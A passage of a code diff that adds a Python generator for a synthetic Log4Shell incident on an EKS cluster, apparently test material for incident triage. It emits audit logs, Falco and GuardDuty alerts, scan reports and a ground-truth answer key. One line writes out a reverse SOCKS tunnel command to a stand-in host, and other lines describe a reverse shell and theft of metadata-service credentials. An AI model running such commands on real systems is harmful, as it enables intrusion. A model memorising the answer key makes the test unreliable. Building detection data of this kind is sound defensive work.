+          objref=oref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201, level="RequestResponse", req=rr,
+          resp=dict(rr, status={"resourceRules": [{"verbs": ["get", "list", "watch"], "apiGroups": [""], "resources": ["configmaps"]},
+                                                  {"verbs": ["create"], "apiGroups": ["authorization.k8s.io"],
+                                                   "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"]}],
+                                "nonResourceRules": [{"verbs": ["get"], "nonResourceURLs": ["/api", "/api/*", "/apis", "/apis/*", "/healthz",
+                                                                                            "/livez", "/readyz", "/version", "/version/"]}],
+                                "incomplete": False}),
+          reason=crb_reason("system:basic-user", "system:basic-user", "Group", "system:authenticated"), **K)
+    audit(T("13:50:48.660172"), verb="list", uri=f"/api/v1/namespaces/{ns}/secrets", objref=oref("secrets", ns),
+          decision="forbid", rstatus=M.forbidden(uname, "list", "secrets", ns), **K)
+    audit(T("13:51:03.118940"), verb="list", uri=f"/api/v1/namespaces/{ns}/configmaps", objref=oref("configmaps", ns), level="Request",
+          reason=vw_app_reason(), **K)
+    audit(T("13:51:20.447305"), verb="get", uri=f"/api/v1/namespaces/{ns}/configmaps/customer-portal-config",
+          objref=oref("configmaps", ns, "customer-portal-config"), reason=vw_app_reason(), **K)
+    audit(T("13:51:41.902116"), verb="list", uri=f"/api/v1/namespaces/{ns}/pods", objref=oref("pods", ns), level="Request",
+          decision="forbid", rstatus=M.forbidden(uname, "list", "pods", ns), **K)
+    audit(T("13:51:58.335021"), verb="create", uri=f"/api/v1/namespaces/{ns}/pods", objref=oref("pods", ns), level="Request",
+          decision="forbid", rstatus=M.forbidden(uname, "create", "pods", ns), **K)
+    audit(T("13:52:20.071894"), verb="list", uri="/api/v1/secrets", objref=oref("secrets"), decision="forbid",
+          rstatus=M.forbidden(uname, "list", "secrets"), **K)
+    # 4. a tunnelling tool, downloaded into /tmp and run: a reverse SOCKS tunnel out to 203.0.113.172:443
+    drop, run = T("13:53:40.551208"), T("13:53:47.129664")
+    tool = C["tool"]
+    tcmd = f"dbus-daemon-helper client {C['tunnel_ip']}:443 R:socks"
+    drop_ns, run_ns = epoch_ns(drop, 402), epoch_ns(run, 77)
+    start_ns = epoch_ns(C["started"][pod])
+    falco(run, 77, "Drop and execute new binary in container", "Critical",
+          tags=["T1036", "container", "maturity_stable", "mitre_defense_evasion", "mitre_persistence", "process"],
+          message="Executing binary not part of base image",
+          text_fields=[("proc_exe", tool), ("proc_sname", "bash"), ("gparent", "bash"), ("proc_exe_ino_ctime", str(drop_ns)),
+                       ("proc_exe_ino_mtime", str(drop_ns)), ("proc_exe_ino_ctime_duration_proc_start", str(run_ns - drop_ns)),
+                       ("proc_cwd", "/tmp/.ICE-unix/"), ("container_start_ts", str(start_ns))]
+                      + M.proc_text("execve", "app", 10001, "dbus-daemon-hel", tool, "bash", tcmd, 0)
+                      + [("exe_flags", "EXE_WRITABLE|EXE_UPPER_LAYER")] + ctext,
+          fields=dict(cf, **M.proc_fields("execve", "app", 10001, "dbus-daemon-hel", tool, "bash", tcmd, 0, 9477),
+                      **{"container.start_ts": start_ns, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "proc.aname[2]": "bash",
+                         "proc.cwd": "/tmp/.ICE-unix/", "proc.exe": tool, "proc.exe_ino.ctime": drop_ns, "proc.exe_ino.mtime": drop_ns,
+                         "proc.exe_ino.ctime_duration_proc_start": run_ns - drop_ns, "proc.sname": "bash"}),
+          step="runtime-tunnel-tool", **X)
+    C["t"] = {"rce": t, "shell": t2, "drop": drop, "run": run}
+
+
+def vw_instance_details(n):
+    C = V
+    return {"instanceId": n.instance, "instanceType": n.itype, "launchTime": n.launched.replace("Z", ".000Z"),
+            "platform": None, "productCodes": [],
+            "iamInstanceProfile": {"arn": f"arn:aws:iam::{S().account}:instance-profile/eks-{C['ng']}-7a9c1e3b-5d7f-4b9a-8c1e-3a5b7c9d1e3f",
+                                   "id": "AIPA2VKPRTLPORTALPF5"},
+            "networkInterfaces": [{"ipv6Addresses": [], "networkInterfaceId": "eni-0" + hashlib.md5(n.instance.encode()).hexdigest()[:16],
+                                   "privateDnsName": n.name, "privateIpAddress": n.ip,
+                                   "privateIpAddresses": [{"privateDnsName": n.name, "privateIpAddress": n.ip}],
+                                   "subnetId": C["subnets"][n.zone], "vpcId": C["vpc"],
+                                   "securityGroups": [{"groupName": "eks-cluster-sg-prod-portal-1759716891", "groupId": C["cluster_sg"]}]}],
+            "outpostArn": None,
+            "tags": [{"key": "eks:cluster-name", "value": S().cluster}, {"key": "eks:nodegroup-name", "value": C["ng"]},
+                     {"key": f"kubernetes.io/cluster/{S().cluster}", "value": "owned"}, {"key": "aws:eks:cluster-name", "value": S().cluster}],
+            "instanceState": "running", "availabilityZone": n.zone, "imageId": C["ami"],
+            "imageDescription": "EKS-optimized Kubernetes node based on Amazon Linux 2023, (k8s: 1.32.1, containerd: 1.7.*)"}
+
+
+def vw_guardduty():
+    C = V
+    A = C["nodes"][0]
+    pod = C["pod"]
+    pod_uid = stable_uuid(f"pod/{C['ns']}/{pod}")
+    cid = M.container_id(C["ns"], pod, "portal")
+    cluster = {"name": S().cluster, "arn": S().cluster_arn, "vpcId": C["vpc"], "status": "ACTIVE",
+               "tags": [{"key": "env", "value": "production"}, {"key": "team", "value": "portal"}],
+               "createdAt": epoch(T("02:14:51.204", "2025-10-06"))}
+    workload = {"name": pod, "type": "pods", "uid": pod_uid, "namespace": C["ns"], "hostNetwork": False,
+                "containers": [{"name": "portal", "image": C["image"], "imagePrefix": C["ecr"],
+                                "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}]}
+    container = {"containerRuntime": "containerd", "id": cid, "name": "portal", "image": C["image"], "imagePrefix": C["ecr"],
+                 "securityContext": {"privileged": False, "allowPrivilegeEscalation": False}}
+    res = {"resourceType": "EKSCluster", "eksClusterDetails": cluster, "kubernetesDetails": {"kubernetesWorkloadDetails": workload},
+           "instanceDetails": vw_instance_details(A), "containerDetails": container}
+    tt = C["t"]
+    java_uuid, bash_uuid, shell_uuid, tool_uuid = (stable_uuid("proc/java"), stable_uuid("proc/bash-c"), stable_uuid("proc/bash-i"),
+                                                   stable_uuid("proc/tool"))
+    java = {"startTime": epoch(C["started"][pod]), "namespacePid": 1, "userId": 10001, "name": "java", "pid": 4211, "uuid": java_uuid,
+            "executablePath": "/opt/java/openjdk/bin/java", "euid": 10001, "parentUuid": stable_uuid("proc/containerd-shim")}
+    bash_c = {"startTime": epoch(tt["rce"]), "namespacePid": 203, "userId": 10001, "name": "bash", "pid": 9214, "uuid": bash_uuid,
+              "executablePath": "/usr/bin/bash", "euid": 10001, "parentUuid": java_uuid}
+    shell = {"name": "bash", "executablePath": "/usr/bin/bash", "executableSha256": sha("bash"), "namespacePid": 207, "pwd": "/app",
+             "pid": 9218, "startTime": epoch(tt["shell"] - timedelta(milliseconds=30)), "uuid": shell_uuid, "parentUuid": bash_uuid,
+             "user": "app", "userId": 10001, "euid": 10001, "lineage": [bash_c, java]}
+    copy_ = lambda o: json.loads(json.dumps(o))
+    finding("a3c5e7f9b1d3f5a7c9e1b3d5f7a9c1e3", "Execution:Runtime/ReverseShell", 8,
+            "A process in a container has created a reverse shell.",
+            f"A process bash in container portal of pod {pod} on EKS Cluster {S().cluster} has created a reverse shell "
+            f"to remote host {C['attacker_ip']}.",
+            copy_(res), M.service_block(tt["shell"], tt["shell"], 1, {}, feature="RuntimeMonitoring",
+                                        extra={"runtimeDetails": {"process": shell}}),
+            T("13:48:36.204"), T("13:48:36.204"), step="detect-reverse-shell")
+    tool = {"name": "dbus-daemon-hel", "executablePath": C["tool"], "executableSha256": C["tool_sha"], "namespacePid": 291,
+            "pwd": "/tmp/.ICE-unix", "pid": 9477, "startTime": epoch(tt["run"]), "uuid": tool_uuid, "parentUuid": shell_uuid,
+            "user": "app", "userId": 10001, "euid": 10001,
+            "lineage": [{k: v for k, v in shell.items() if k not in ("lineage", "executableSha256", "pwd", "user")}, bash_c, java]}
+    finding("b5e7a9c1d3f5b7d9e1a3c5e7b9d1f3a5", "Execution:Runtime/NewBinaryExecuted", 5,
+            "A newly created or recently modified binary file has been executed in a container.",
+            f"A newly created or recently modified binary file {C['tool']} has been executed in container portal "
+            f"of pod {pod} on EKS Cluster {S().cluster}.",
+            copy_(res), M.service_block(tt["run"], tt["run"], 1, {}, feature="RuntimeMonitoring",
+                                        extra={"runtimeDetails": {"process": tool, "context": {"modifyingProcess": {
+                                            "name": "curl", "executablePath": "/usr/bin/curl", "pid": 9431, "namespacePid": 262,
+                                            "uuid": stable_uuid("proc/curl"), "userId": 10001, "euid": 10001,
+                                            "startTime": epoch(tt["drop"] - timedelta(milliseconds=700))},
+                                            "modifiedAt": epoch(tt["drop"])}}}),
+            T("13:58:12.771"), T("13:58:12.771"), step="detect-new-binary")
+
+
+LOG4J_DESC = ("Apache Log4j2 2.0-beta9 through 2.15.0 (excluding security releases 2.12.2, 2.12.3, and 2.3.1) JNDI features used in "
+              "configuration, log messages, and parameters do not protect against attacker controlled LDAP and other JNDI related "
+              "endpoints. An attacker who can control log messages or log message parameters can execute arbitrary code loaded from "
+              "LDAP servers when message lookup substitution is enabled.")
+LOG4J_45046_DESC = ("The fix to address CVE-2021-44228 in Apache Log4j 2.15.0 was incomplete in certain non-default configurations. "
+                    "Attackers with control over Thread Context Map (MDC) input data can craft malicious input data using a JNDI Lookup "
+                    "pattern, resulting in an information leak and remote code execution in some environments.")
+LOG4J_44832_DESC = ("Apache Log4j2 versions 2.0-beta7 through 2.17.0 are vulnerable to a remote code execution attack when a "
+                    "configuration uses a JDBC Appender with a JNDI LDAP data source URI when an attacker has control of the target "
+                    "LDAP server.")
+
+
+def vw_scans(base, files):
+    """Inspector's findings for the account's images; the CI's Trivy reports (report-worker; and customer-portal:4.12 as
+    it was pushed a week earlier, under the same tag, before the tag was pushed again)."""
+    C = V
+    jar = "JAR"
+    pushed, first, last = "2026-05-19T09:11:48+00:00", "2026-05-19T09:12:20.418000+00:00", "2026-05-19T14:02:11.906000+00:00"
+    lib = "app/BOOT-INF/lib/"
+    web = dict(image=C["image"], digest=C["digest"], tags=["4.12"], pushed=pushed, last_in_use="2026-05-19T14:00:00+00:00", in_use=3,
+               first=first, last=last)
+    ghsa = "https://github.com/advisories/"
+    fs = [
+        inspector_finding(cve="CVE-2021-44228", severity="CRITICAL", score=10.0, vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
+                          exploit=True, pkgs=[("log4j-core", "2.14.1", "2.15.0", jar, lib + "log4j-core-2.14.1.jar", None)],
+                          title="CVE-2021-44228 - log4j-core", desc=LOG4J_DESC, source="GITHUB", source_url=ghsa + "GHSA-jfh8-c2jp-5v3q",
+                          vendor_severity="CRITICAL", epss=0.9447, last_exploit="2026-05-17T22:41:09+00:00", **web),
+        inspector_finding(cve="CVE-2021-45046", severity="CRITICAL", score=9.0, vector="CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H",
+                          exploit=False, pkgs=[("log4j-core", "2.14.1", "2.16.0", jar, lib + "log4j-core-2.14.1.jar", None)],
+                          title="CVE-2021-45046 - log4j-core", desc=LOG4J_45046_DESC, source="GITHUB",
+                          source_url=ghsa + "GHSA-7rjr-3q55-vv33", vendor_severity="CRITICAL", epss=0.9434, **web),
+        inspector_finding(cve="CVE-2021-44832", severity="MEDIUM", score=6.6, vector="CVSS:3.1/AV:N/AC:H/PR:H/UI:N/S:U/C:H/I:H/A:H",
+                          exploit=False, pkgs=[("log4j-core", "2.14.1", "2.17.1", jar, lib + "log4j-core-2.14.1.jar", None)],
+                          title="CVE-2021-44832 - log4j-core", desc=LOG4J_44832_DESC, source="GITHUB",
+                          source_url=ghsa + "GHSA-8489-44mv-ggj8", vendor_severity="MODERATE", epss=0.4312, **web),
+        inspector_finding(cve="CVE-2023-0286", severity="HIGH", score=7.4, vector="CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:H",
+                          exploit=False, pkgs=[("libssl1.1", "1.1.1f", "0:1.1.1f-1ubuntu2.17", "OS", None, "1ubuntu2.16"),
+                                               ("openssl", "1.1.1f", "0:1.1.1f-1ubuntu2.17", "OS", None, "1ubuntu2.16")],
+                          title="CVE-2023-0286 - libssl1.1, openssl",
+                          desc="There is a type confusion vulnerability relating to X.400 address processing inside an X.509 GeneralName.",
+                          source="UBUNTU_CVE", source_url="https://ubuntu.com/security/CVE-2023-0286", vendor_severity="high",
+                          epss=0.0089, **web),
+    ]
+    rw = dict(image=C["rw_image"], digest=C["rw_digest"], tags=["1.8.2"], pushed="2026-04-28T11:03:17+00:00",
+              last_in_use="2026-05-19T14:00:00+00:00", in_use=1, first="2026-04-28T11:03:49.204000+00:00",
+              last="2026-05-19T13:58:40.117000+00:00")
+    fs += [
+        inspector_finding(cve="CVE-2022-1471", severity="HIGH", score=8.3, vector="CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:L",
+                          exploit=False, pkgs=[("snakeyaml", "1.30", "2.0", jar, lib + "snakeyaml-1.30.jar", None)],
+                          title="CVE-2022-1471 - snakeyaml",
+                          desc="SnakeYaml's Constructor() class does not restrict types which can be instantiated during deserialization.",
+                          source="GITHUB", source_url=ghsa + "GHSA-mjmj-j48q-9wg2", vendor_severity="HIGH", epss=0.0421, **rw),
+        inspector_finding(cve="CVE-2023-2976", severity="HIGH", score=7.1, vector="CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N",
+                          exploit=False, pkgs=[("guava", "31.1-jre", "32.0.0-android", jar, lib + "guava-31.1-jre.jar", None)],
+                          title="CVE-2023-2976 - guava",
+                          desc="Use of Java's default temporary directory for file creation in FileBackedOutputStream in Google Guava "
+                               "allows other users and apps on the machine with access to the default Java temporary directory to be "
+                               "able to access the files created by the class.",
+                          source="GITHUB", source_url=ghsa + "GHSA-7g45-4rm6-3mm3", vendor_severity="HIGH", epss=0.0006, **rw),
+    ]
+    write_scan(base, files, "inspector/list-findings.json", {"findings": fs}, len(fs))
+    v3 = lambda s, v: (s, v)
+    jar_purl = lambda g, a, v: f"pkg:maven/{g}/{a}@{v}"
+    rw_report = trivy_report("2026-04-28T11:02:55.418207331Z", C["rw_image"], C["rw_digest"], "ubuntu", "22.04", [
+        (f"{C['rw_image']} (ubuntu 22.04)", "os-pkgs", "ubuntu", [
+            trivy_vuln("CVE-2022-3219", "gpgv", "2.2.27-3ubuntu2.1", None, "LOW",
+                       "gnupg: denial of service issue (resource consumption) using compressed packets", source="ubuntu",
+                       purl="pkg:deb/ubuntu/gpgv@2.2.27-3ubuntu2.1?arch=amd64&distro=ubuntu-22.04")]),
+        ("Java", "lang-pkgs", "jar", [
+            trivy_vuln("CVE-2022-1471", "org.yaml:snakeyaml", "1.30", "2.0", "HIGH", "SnakeYaml: Constructor Deserialization Remote Code Execution",
+                       v3=v3(9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"), path="app/BOOT-INF/lib/snakeyaml-1.30.jar",
+                       purl=jar_purl("org.yaml", "snakeyaml", "1.30")),
+            trivy_vuln("CVE-2023-2976", "com.google.guava:guava", "31.1-jre", "32.0.0-android", "HIGH",
+                       "guava: insecure temporary directory creation", v3=v3(7.1, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N"),
+                       path="app/BOOT-INF/lib/guava-31.1-jre.jar", purl=jar_purl("com.google.guava", "guava", "31.1-jre"))])])
+    write_scan(base, files, "trivy/report-worker-1.8.2.json", rw_report, 3, indent=2)
+    old = trivy_report("2026-05-12T16:40:03.902114517Z", C["image"], C["digest_old"], "ubuntu", "20.04", [
+        ("Java", "lang-pkgs", "jar", [
+            trivy_vuln("CVE-2021-44228", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.15.0, 2.3.1, 2.12.2", "CRITICAL",
+                       "log4j-core: Remote code execution in Log4j 2.x when logs contain an attacker-controlled string value",
+                       v3=v3(10, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"), path="app/BOOT-INF/lib/log4j-core-2.14.1.jar",
+                       purl=jar_purl("org.apache.logging.log4j", "log4j-core", "2.14.1")),
+            trivy_vuln("CVE-2022-42889", "org.apache.commons:commons-text", "1.9", "1.10.0", "CRITICAL",
+                       "commons-text: apache-commons-text: variable interpolation RCE",
+                       v3=v3(9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"), path="app/BOOT-INF/lib/commons-text-1.9.jar",
+                       purl=jar_purl("org.apache.commons", "commons-text", "1.9"))])])
+    write_scan(base, files, "trivy/customer-portal-4.12-2026-05-12.json", old, 2, indent=2)
+
+
+def vw_snapshot():
+    C = V
+    A, B_, Cn = C["nodes"]
+    ns, dep = C["ns"], C["deploy"]
+    pods = system_pod_objects(C, T("03:12:05", "2026-05-15"), ["10.127.14.40", "10.127.47.66"])
+    tl = {"app.kubernetes.io/name": dep, "app.kubernetes.io/part-of": "portal"}
+    rs_new, rs_old = f"{dep}-{C['rs_new']}", f"{dep}-{C['rs_old']}"
+    for name, n, ip in C["web_pods"]:
+        p = M.make_pod(name, ns, C["started"][name] - timedelta(seconds=5), vw_containers(C["image"]), n, ip,
+                       labels=dict(tl, **{"pod-template-hash": C["rs_new"]}), owner_ref=owner_ref("ReplicaSet", rs_new, ns), sa=C["sa"],
+                       generate_name=rs_new + "-", annotations={"kubectl.kubernetes.io/restartedAt": "2026-05-19T09:12:31Z"})
+        p["spec"]["containers"][0]["imagePullPolicy"] = "Always"
+        p["status"]["containerStatuses"][0]["imageID"] = vw_image_id(C["image"], C["digest"])
+        pods.append(p)
+    name, n, ip = C["rw_pod"]
+    rl = {"app.kubernetes.io/name": C["rw"], "app.kubernetes.io/part-of": "portal"}
+    p = M.make_pod(name, ns, T("11:04:10", "2026-04-28"), vw_rw_containers(), n, ip, labels=dict(rl, **{"pod-template-hash": C["rw_rs"]}),
+                   owner_ref=owner_ref("ReplicaSet", f"{C['rw']}-{C['rw_rs']}", ns), sa=C["rw"], generate_name=f"{C['rw']}-{C['rw_rs']}-")
+    p["status"]["containerStatuses"][0]["imageID"] = vw_image_id(C["rw_image"], C["rw_digest"])
+    pods.append(p)
+    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
+    d1 = M.deployment(dep, ns, "2025-10-08T05:31:20Z", 3, tl, tl, vw_containers(C["image"]), C["sa"], C["rs_new"], 31,
+                      template_annotations={"kubectl.kubernetes.io/restartedAt": "2026-05-19T09:12:31Z"})
+    d1["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{dep}")
+    d2 = M.deployment(C["rw"], ns, "2025-11-20T08:14:02Z", 1, rl, rl, vw_rw_containers(), C["rw"], C["rw_rs"], 9)
+    d2["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{C['rw']}")
+    rss = []
+    for d, h, cont, n_, rev, created, sa, lab in ((dep, C["rs_old"], vw_containers(C["image"]), 0, 30, "2026-05-12T16:44:51Z", C["sa"], tl),
+                                                  (dep, C["rs_new"], vw_containers(C["image"]), 3, 31, "2026-05-19T09:12:31Z", C["sa"], tl),
+                                                  (C["rw"], C["rw_rs"], vw_rw_containers(), 1, 9, "2026-04-28T11:04:08Z", C["rw"], rl)):
+        rs = M.replicaset(d, ns, h, created, n_, lab, cont, sa, rev)
+        rs["metadata"]["uid"] = stable_uuid(f"ReplicaSet/{ns}/{d}-{h}")
+        rs["metadata"]["ownerReferences"] = [owner_ref("Deployment", d, ns)]
+        rss.append(rs)
+    sas = system_serviceaccounts("2025-10-06T02:22:40Z") + [M.serviceaccount(C["sa"], ns, "2025-10-08T05:31:18Z"),
+                                                             M.serviceaccount(C["rw"], ns, "2025-11-20T08:14:00Z"),
+                                                             M.serviceaccount("default", ns, "2025-10-08T05:30:02Z")]
+    rbs = [M.rb("customer-portal-config-reader", ns, "Role", "customer-portal-config-reader", [M.SA(C["sa"], ns)], "2025-10-08T05:31:18Z"),
+           M.rb("report-worker-config-reader", ns, "Role", "report-worker-config-reader", [M.SA(C["rw"], ns)], "2025-11-20T08:14:00Z")]
+    nodes = [M.node_object(n, "apne1-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", C["ami"]) for i, n in enumerate(C["nodes"])]
+    crbs = M.system_crbs("2025-10-06T02:22:40Z") + [metrics_server_crb("2025-10-06T02:31:12Z")]
+    crbs.sort(key=lambda o: o["metadata"]["name"])
+    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "deployments.json": k8s_list([d1, d2]),
+            "replicasets.json": k8s_list(rss), "serviceaccounts.json": k8s_list(sas), "rolebindings.json": k8s_list(rbs),
+            "clusterrolebindings.json": k8s_list(crbs),
+            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.9", ["192.0.2.64/26", "198.51.100.192/26"],
+                                                          ["api", "audit", "authenticator"], tags={"env": "production", "team": "portal"})}
+
+
+VW_STEPS = {
+    "runtime-log4shell-rce": "Log4Shell (CVE-2021-44228) in customer-portal: a JNDI lookup in a logged request header loads a class from 203.0.113.171, which makes the JVM (java, user app) run bash with a base64-encoded reverse shell (Falco Run shell untrusted)",
+    "runtime-reverse-shell": "bash -i with its stdin/stdout on a TCP connection to 203.0.113.171:4444 (Falco Redirect STDOUT/STDIN to Network Connection)",
+    "runtime-imds-probe": "curl to the instance metadata service from the pod (the IMDSv2 token, then the role's credentials): no answer, the hop limit is 1 (Falco Contact EC2 Instance Metadata Service)",
+    "k8s-sa-token-abuse": "the pod's mounted service-account token used with curl from the pod's address: rules review, secrets (403), configmaps of portal (allowed by the app's Role), customer-portal-config read, pods list and create (403), secrets cluster-wide (403)",
+    "runtime-tunnel-tool": "a reverse SOCKS tunnelling tool downloaded with curl to /tmp/.ICE-unix/dbus-daemon-helper and run against 203.0.113.172:443 (Falco Drop and execute new binary)",
+    "detect-reverse-shell": "GuardDuty Runtime Monitoring: Execution:Runtime/ReverseShell on the pod, lineage java -> bash -> bash -i",
+    "detect-new-binary": "GuardDuty Runtime Monitoring: Execution:Runtime/NewBinaryExecuted (the tunnelling tool, written by curl)",
+    "lookalike-ci-rollout": "benign: the release pipeline (GitHub Actions, role github-actions-deploy) pushes a new build of customer-portal under the same tag 4.12 and restarts the Deployment (kubectl rollout restart)",
+    "rollout-controllers": "benign: the deployment-controller creates ReplicaSet customer-portal-7f9c6d8b45, the replicaset-controller its three pods one by one and deletes the old ones; the scheduler binds them; the kubelets report them running with the new digest",
+    "lookalike-app-config-reads": "benign: every replica's service account reads customer-portal-config as the app starts and every 30 minutes (Spring Cloud Kubernetes, fabric8 client) from the pods' own addresses: the same account, the same address and the same ConfigMap as the attacker's read",
+    "lookalike-report-worker": "benign: report-worker (an image with HIGH findings and no exploit known, no runtime alert) reads its ConfigMap every hour",
+    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
+}
+
+
+def vw_consistency(docs):
+    problems = []
+    C = V
+    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
+    for name, n, ip in C["web_pods"]:
+        p = pods[name]
+        if p["spec"]["nodeName"] != n.name or p["status"]["podIP"] != ip:
+            problems.append(f"snapshot: {name} is not where the audit puts it")
+        if image_id_digest(p["status"]["containerStatuses"][0]["imageID"]) != C["digest"]:
+            problems.append(f"snapshot: {name} does not run the pushed digest")
+    for ev in docs["k8s-audit/kube-apiserver-audit.log"]:
+        o = ev.get("objectRef", {})
+        if o.get("subresource") == "status" and o.get("name") in pods and ev["verb"] == "patch":
+            want = pods[o["name"]]["status"]["containerStatuses"][0]["imageID"]
+            if ev["requestObject"]["status"]["containerStatuses"][0].get("imageID") != want:
+                problems.append(f"audit: the kubelet's status of {o['name']} names another image than the snapshot")
+    for a in docs["falco/falco.jsonl"]:
+        p = pods.get(a["output_fields"].get("k8s.pod.name"))
+        if p is None or p["spec"]["nodeName"] != a["hostname"]:
+            problems.append(f"falco: {a['rule']} at {a['time']} names a pod not on its host")
+    insp = docs["inspector/list-findings.json"]["findings"]
+    web = [f for f in insp if f["resources"][0]["details"]["awsEcrContainerImage"]["repositoryName"] == C["repo"]]
+    if {f["resources"][0]["details"]["awsEcrContainerImage"]["imageHash"] for f in web} != {C["digest"]}:
+        problems.append("inspector: the web image's findings are not on the digest the pods run")
+    old = docs["trivy/customer-portal-4.12-2026-05-12.json"]
+    if old["ArtifactName"] != C["image"] or C["digest"] in old["Metadata"]["RepoDigests"][0]:
+        problems.append("trivy: the re-pushed tag's report must name the same tag and another digest")
+    ct_push = [r for rel, d in docs.items() if rel.endswith(".json.gz") for r in d["Records"] if r["eventName"] == "PutImage"]
+    if [r["responseElements"]["image"]["imageId"]["imageDigest"] for r in ct_push] != [C["digest"]]:
+        problems.append("cloudtrail: PutImage must push the digest the pods run")
+    return problems
+
+
+def build_vulnerable_web_image(out):
+    vw_world()
+    C = V
+    vw_benign()
+    vw_attack()
+    vw_guardduty()
+    audit_background(C, T("09:00:14.208331"), T("15:00:00"), gap=(50, 90))
+    cloudtrail_background(C, range(9, 15))
+    base = os.path.join(out, "vulnerable-web-image")
+    files = {}
+    write_ct_s3(base, files, ct_records())
+    write_audit_log(base, files, audit_events())
+    write_guardduty_cli(base, files)
+    write_falco(base, files)
+    write_snapshot(base, files, vw_snapshot())
+    vw_scans(base, files)
+    A, B_, Cn = C["nodes"]
+    ns, dep, pod = C["ns"], C["deploy"], C["pod"]
+    others = [p for p, _, _ in C["web_pods"][1:]]
+    uname = f"system:serviceaccount:{ns}:{C['sa']}"
+    head = {
+        "scenario": "vulnerable-web-image",
+        "summary": (f"{S().cluster} ({S().account}, {S().region}) runs the Java (Spring Boot) app customer-portal from {C['image']}, a "
+                    f"mutable release tag. At 09:11 the release pipeline pushes a new build under the same tag ({C['digest'][:19]}…) "
+                    f"and restarts the Deployment; the new pods run that digest, which Amazon Inspector reports with log4j-core 2.14.1 "
+                    f"(CVE-2021-44228, CRITICAL, exploit available, fixed in 2.15.0; CVE-2021-45046, fixed in 2.16.0). At 13:47 "
+                    f"Log4Shell is exploited in {ns}/{pod} on {A.name}: the JVM runs bash, a reverse shell to {C['attacker_ip']}:4444; "
+                    f"the shell probes the instance metadata service (no answer: hop limit 1), uses the pod's service-account token "
+                    f"with curl (secrets and pods forbidden; the app's ConfigMap read), then downloads and runs a tunnelling tool "
+                    f"to {C['tunnel_ip']}:443. Falco and GuardDuty Runtime Monitoring see it. The other Java workload, report-worker, "
+                    f"runs an image with HIGH findings and no exploit known and is not touched; a week-old Trivy report names the same "
+                    f"tag with the digest it had before it was pushed again."),
+        "severity": "Critical",
+        "severity_criteria": [
+            {"level": "Critical", "criterion": "active exploitation of critical vulnerabilities",
+             "evidence": f"CVE-2021-44228 (log4j-core 2.14.1, CRITICAL, exploit available: Inspector) in the digest {ns}/{pod} runs, and that pod's JVM spawns a reverse shell (Falco Run shell untrusted, Redirect STDOUT/STDIN; GuardDuty Execution:Runtime/ReverseShell)"},
+            {"level": "High", "criterion": "unusual network activity from container workloads",
+             "evidence": f"reverse shell to {C['attacker_ip']}:4444, the instance metadata service probed, a tunnel to {C['tunnel_ip']}:443"},
+            {"level": "High", "criterion": "lateral movement attempts",
+             "evidence": f"the pod's service-account token used from the shell (curl, {C['pod_ip']}): secrets and pods forbidden, the app's ConfigMap read"},
+            {"level": "Medium", "criterion": "vulnerable components identified",
+             "evidence": "log4j-core 2.14.1 and openssl 1.1.1f in the running customer-portal image; snakeyaml and guava in report-worker (not exploited)"},
+        ],
+        "not_met": ["no cluster-admin or other credential beyond the pod's own token was obtained",
+                    "one pod on one node; no privileged pod; no data leaves beyond the ConfigMap the app's account may read"],
+        "entities": {
+            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
+            "deployment": f"Deployment/{ns}/{dep}", "container": C["container"], "image": C["image"], "image_digest": C["digest"],
+            "image_digest_before_repush": C["digest_old"], "pod": f"{ns}/{pod}", "node": A.name, "instance_id": A.instance,
+            "service_account": f"{ns}/{C['sa']}", "sa_username": uname, "attacker_ips": [C["attacker_ip"], C["tunnel_ip"]],
+            "vulnerabilities": {"CVE-2021-44228": "log4j-core 2.14.1 -> 2.15.0, CRITICAL, exploit available",
+                                "CVE-2021-45046": "log4j-core 2.14.1 -> 2.16.0, CRITICAL",
+                                "CVE-2023-0286": "openssl / libssl1.1 1.1.1f-1ubuntu2.16 -> 1.1.1f-1ubuntu2.17, HIGH",
+                                "CVE-2021-44832": "log4j-core 2.14.1 -> 2.17.1, MEDIUM (not counted)"},
+            "lookalike_image": {C["rw_image"]: C["rw_digest"]},
+            "other_replicas": [f"{ns}/{p}" for p in others], "not_compromised_nodes": {B_.name: B_.instance, Cn.name: Cn.instance},
+        },
+        "scans": {
+            "inspector/list-findings.json": f"Amazon Inspector: {C['image']} at {C['digest']} (4 findings) and {C['rw_image']} (2 HIGH, exploit not available)",
+            "trivy/report-worker-1.8.2.json": f"Trivy in CI, {C['rw_image']} at {C['rw_digest']}: 2 HIGH, 1 LOW",
+            "trivy/customer-portal-4.12-2026-05-12.json": f"Trivy in CI a week earlier: the same tag 4.12 at {C['digest_old']}, which no pod runs (the tag was pushed again at 09:11); CVE-2022-42889 (commons-text) is only in that build",
+        },
+        "joins": [
+            "pod -> status.containerStatuses[].imageID (snapshot, and the kubelet's status patch in the audit log) -> digest -> Inspector resources[].details.awsEcrContainerImage.imageHash (repositoryName, registry)",
+            f"the tag {C['image']} names two digests: the pods' (Inspector) and the one Trivy scanned on 2026-05-12; only the digest joins a report to what runs",
